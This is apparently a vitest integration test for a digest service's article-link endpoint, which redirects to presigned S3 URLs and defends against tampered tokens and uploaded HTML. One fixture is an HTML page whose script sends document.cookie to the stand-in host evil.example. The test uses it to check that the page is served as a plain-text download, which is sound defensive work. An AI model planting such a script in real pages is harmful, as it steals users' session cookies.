/**
 * Links to stored originals over s3rver + aws-ses-v2-local: the digest links an article without a URL of
 * its own to the article-link function (served on 127.0.0.1 as a function URL), which redirects to a URL
 * presigned at click time; that URL returns the article's bytes.
 */
import { DeleteObjectCommand, PutObjectCommand } from '@aws-sdk/client-s3';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readArticleLinkToken } from '../../src/links/article-link.js';
import { runDigest } from '../../src/use-cases/run-digest/run-digest.js';
import { loadLinkEndpointConfig } from '../../src/config.js';
import { articleLinkDeps, createArticleLinkHandler } from '../../src/handlers/article-link-handler.js';
import {
  startFunctionUrl,
  type FunctionUrlHandler,
  type LocalFunctionUrl,
} from '../../src/local/function-url.js';
import { quietLogger } from '../support/digest-memory.js';
import { TEST_BUCKET, TEST_SECRET, useDigestStack } from '../support/digest-stack.js';
import { buildSummary, summaryKey } from '../support/summary-fixtures.js';

const stack = useDigestStack();
let endpoint: LocalFunctionUrl | undefined;

beforeAll(async () => {
  const { s3Emulator } = stack();
  const config = loadLinkEndpointConfig('article-link', {
    AWS_REGION: 'us-east-1',
    S3_ENDPOINT: s3Emulator.endpoint,
    BUCKET: TEST_BUCKET,
    LINK_SIGNING_SECRET: TEST_SECRET,
  });
  const handler = createArticleLinkHandler(articleLinkDeps(config, stack().s3), quietLogger());
  endpoint = await startFunctionUrl(
    () => handler as unknown as FunctionUrlHandler,
    () => ({}) as never,
  );
});
afterAll(async () => {
  await endpoint?.close();
});

/** Sends a digest to a new reader (one digest a day each) and returns its link to the original at `key`. */
async function linkFromDigest(title: string, key: string): Promise<URL> {
  const base = endpoint?.url ?? '';
  const story = buildSummary({ title, key });
  await stack().putSummary(story, summaryKey(story, new Date()));
  const env = {
    RECIPIENTS: `reader-${crypto.randomUUID()}@example.com`,
    DIGEST_SEND_HOUR: '0',
    ARTICLE_LINK_URL: base,
  };
  await runDigest(stack().deps(env), new Date(Date.now() + 2000));
  const [email] = await stack().ses.emails();
  const links = [...(email?.body.html ?? '').matchAll(/href="([^"]+)"/g)].map(
    (m) => new URL((m[1] ?? '').replaceAll('&amp;', '&')),
  );
  const link = links.find(
    (url) =>
      url.href.startsWith(base) &&
      readArticleLinkToken(TEST_SECRET, url.searchParams.get('token') ?? '')?.key === key,
  );
  if (!link) throw new Error(`the digest has no article link to ${key}`);
  return link;
}

/** Changes one character of the MAC (not the last, whose unused bits a spelling check alone would catch). */
const tamper = (token: string) => `${token.slice(0, -2)}${token.at(-2) === 'A' ? 'B' : 'A'}${token.at(-1)}`;

describe('links to stored originals', () => {
  it('go through the article-link function, which redirects to the article presigned at click time', async () => {
    const key = 'articles/field notes+1.md';
    const bytes = '# Field notes\n\nThe tram line opens on Monday. Ünïcödé survives.\n';
    await stack().s3.send(new PutObjectCommand({ Bucket: TEST_BUCKET, Key: key, Body: bytes }));
    const link = await linkFromDigest('Field notes', key);

    const redirect = await fetch(link, { redirect: 'manual' });
    const location = redirect.headers.get('location') ?? '';
    const article = await fetch(location);

    expect(redirect.status).toBe(302);
    expect(redirect.headers.get('referrer-policy')).toBe('no-referrer');
    expect(new URL(location).searchParams.get('X-Amz-Expires')).toBe('300');
    expect(article.status).toBe(200);
    expect(await article.text()).toBe(bytes);
  });

  it('serve an uploaded HTML page as a plain-text download, so its scripts never run on the bucket origin', async () => {
    const key = 'articles/hostile page.html';
    const bytes =
      '<!DOCTYPE html><html><body><script>fetch("https://evil.example/" + document.cookie)</script><p>Hi</p></body></html>';
    await stack().s3.send(
      new PutObjectCommand({
        Bucket: TEST_BUCKET,
        Key: key,
        Body: bytes,
        ContentType: 'text/html; charset=utf-8',
      }),
    );
    const link = await linkFromDigest('Hostile page', key);

    const redirect = await fetch(link, { redirect: 'manual' });
    const article = await fetch(redirect.headers.get('location') ?? '');

    // s3rver applies the signed response-* overrides as S3 does.
    expect(article.status).toBe(200);
    expect(article.headers.get('content-type')).toBe('text/plain; charset=utf-8');
    expect(article.headers.get('content-disposition')).toBe(
      `attachment; filename="hostile page.html"; filename*=UTF-8''hostile%20page.html`,
    );
    expect(await article.text()).toBe(bytes);
    expect(redirect.headers.get('x-content-type-options')).toBe('nosniff');
  });

  it('answer 404 once the original is deleted, and 403 when the token is altered', async () => {
    const key = 'articles/short-lived.txt';
    await stack().s3.send(new PutObjectCommand({ Bucket: TEST_BUCKET, Key: key, Body: 'soon gone' }));
    const link = await linkFromDigest('Short lived', key);
    await stack().s3.send(new DeleteObjectCommand({ Bucket: TEST_BUCKET, Key: key }));
    const altered = new URL(link);
    altered.searchParams.set('token', tamper(link.searchParams.get('token') ?? ''));

    const gone = await fetch(link, { redirect: 'manual' });
    const forged = await fetch(altered, { redirect: 'manual' });

    expect([gone.status, forged.status]).toEqual([404, 403]);
    expect(await gone.text()).toContain('no longer available');
  });
});
